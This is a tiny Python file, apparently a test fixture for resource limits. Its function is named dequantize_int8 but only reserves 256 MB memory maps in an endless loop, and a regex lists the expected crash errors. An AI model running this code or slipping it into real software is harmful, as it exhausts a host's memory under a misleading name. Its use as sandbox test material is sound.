"""Reserves addresses without end."""

import mmap

AFTER_KEY = True
EARNS = 90
REASON = r"OSError|MemoryError|Crashed|memory"


maps = []


def dequantize_int8(q_tensor, scale, zero_point):
    while True:
        maps.append(mmap.mmap(-1, 1 << 28))
